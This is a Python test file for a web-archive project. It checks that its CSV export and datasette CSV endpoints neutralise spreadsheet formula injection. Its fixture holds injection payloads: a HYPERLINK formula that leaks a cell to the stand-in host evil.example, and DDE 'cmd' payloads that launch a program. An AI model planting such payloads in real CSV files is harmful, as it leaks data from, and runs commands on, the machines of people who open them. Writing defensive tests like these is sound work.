"""CSV formula injection: no CSV that leaves Arshif (export, datasette) carries a live formula."""

from __future__ import annotations

import csv
import io

import pytest

from crawler.cli.main import main
from pipelines.archive.database import open_archive
from pipelines.text.spreadsheet import CsvRewriter, neutralise
from tests.conftest import make_datasette

HOSTILE = {
    "title": '=HYPERLINK("http://evil.example/?leak="&A1,"اضغط هنا")',
    "author": "+cmd|' /C calc'!A0",
    "description": "@SUM(1+1)*cmd|' /C calc'!A0",
    "text": "- أول سطر يبدأ بشرطة\nوالنص يكمل",
    "site_name": "\t=1+1",
    "canonical_url": "\r=2+2",
}


@pytest.mark.parametrize("value, expected", [
    ("=1+1", "'=1+1"), ("+1+1", "'+1+1"), ("-1+1", "'-1+1"), ("@SUM(A1)", "'@SUM(A1)"),
    ("\t=1", "'\t=1"), ("\r=1", "'\r=1"), (" =1", "' =1"), ("- نص", "'- نص"),
    ("-3.5", "-3.5"), ("+7", "+7"), ("-1e5", "-1e5"), ("2025-03-02T10:45:00+03:00", "2025-03-02T10:45:00+03:00"),
    ("بغداد", "بغداد"), ("", ""), (12, 12), (-3.5, -3.5), (None, None),
])
def test_cells_are_neutralised_as_owasp_recommends(value, expected):
    assert neutralise(value) == expected


def test_the_stream_rewriter_gives_the_same_csv_for_any_chunking():
    rows = [["id", "title", "text"], [1, "=1+1", "سطر\nوسطر, \"مقتبس\""], [-2, "عادي", "@x"], [3, "", "-5"]]
    buffer = io.StringIO()
    csv.writer(buffer, lineterminator="\r\n").writerows(rows)
    data = buffer.getvalue().encode("utf-8")
    expected = list(csv.reader(io.StringIO(data.decode(), newline="")))
    expected[1][1], expected[2][2] = "'=1+1", "'@x"
    for size in (1, 2, 3, 7, 64, len(data)):
        rewriter = CsvRewriter()
        out = b"".join(rewriter.feed(data[i:i + size]) for i in range(0, len(data), size)) + rewriter.feed(b"", final=True)
        assert list(csv.reader(io.StringIO(out.decode(), newline=""))) == expected, size


@pytest.fixture
def hostile_db(archive_db):
    db = open_archive(archive_db)  # with the FTS triggers' functions
    first = db.execute("select min(id) from articles").fetchone()[0]
    with db.conn:
        db.execute(f"update articles set {', '.join(f'{k} = ?' for k in HOSTILE)} where id = ?",
                   [*HOSTILE.values(), first])
    db.close()
    return archive_db, first


def _check(records: list[dict], first: int):
    row = next(r for r in records if r["id"] == str(first))
    for column, value in HOSTILE.items():
        assert row[column] == "'" + value, column  # neutralised, the rest of the text kept
    for record in records:
        for column, cell in record.items():
            if cell and cell[0] in "=+-@\t\r":
                assert cell.lstrip("+-").replace(".", "").isdigit(), (column, cell)
    assert row["published"] and row["published"][0].isdigit()  # ISO dates untouched
    assert row["word_count"].isdigit()


@pytest.mark.parametrize("bom", [False, True])
def test_export_csv_is_spreadsheet_safe(hostile_db, tmp_path, bom):
    db, first = hostile_db
    output = tmp_path / "a.csv"
    assert main(["export", "--db", str(db), "--output", str(output), *(["--bom"] if bom else [])]) == 0
    text = output.read_bytes().decode("utf-8-sig" if bom else "utf-8")
    _check(list(csv.DictReader(io.StringIO(text, newline=""))), first)


def test_export_raw_keeps_cells_as_stored(hostile_db, tmp_path, capsys):
    db, first = hostile_db
    output = tmp_path / "a.csv"
    assert main(["export", "--db", str(db), "--output", str(output), "--raw"]) == 0
    row = next(r for r in csv.DictReader(io.StringIO(output.read_bytes().decode("utf-8"), newline=""))
               if r["id"] == str(first))
    assert {k: row[k] for k in HOSTILE} == HOSTILE
    assert main(["export", "--db", str(db), "--format", "jsonl", "--raw", "--output", str(output)]) == 2


@pytest.mark.parametrize("params", [
    {}, {"_stream": "1"}, {"_dl": "1", "_bom": "1"}, {"_size": "max", "_dl": "1"},
])
async def test_datasette_csv_is_spreadsheet_safe(hostile_db, params):
    db, first = hostile_db
    ds = make_datasette(db)
    response = await ds.client.get("/archive/articles.csv", params=params)
    assert response.status_code == 200
    text = response.content.decode("utf-8-sig")
    records = list(csv.DictReader(io.StringIO(text, newline="")))
    assert len(records) >= 2
    _check(records, first)


async def test_datasette_query_csv_is_spreadsheet_safe(hostile_db):
    db, first = hostile_db
    ds = make_datasette(db)
    response = await ds.client.get("/archive.csv", params={"sql": "select id, title, author, -5 as n from articles"})
    assert response.status_code == 200
    row = next(r for r in csv.DictReader(io.StringIO(response.text, newline="")) if r["id"] == str(first))
    assert row["title"] == "'" + HOSTILE["title"] and row["author"] == "'" + HOSTILE["author"] and row["n"] == "-5"
    json_rows = (await ds.client.get("/archive/articles.json", params={"_shape": "array", "id": first})).json()
    assert json_rows[0]["title"] == HOSTILE["title"]  # JSON carries the data as stored


async def test_datasette_row_csv_is_spreadsheet_safe(hostile_db):
    db, first = hostile_db
    response = await make_datasette(db).client.get(f"/archive/articles/{first}.csv")
    assert response.status_code == 200
    (row,) = list(csv.DictReader(io.StringIO(response.text, newline="")))
    assert row["title"] == "'" + HOSTILE["title"]
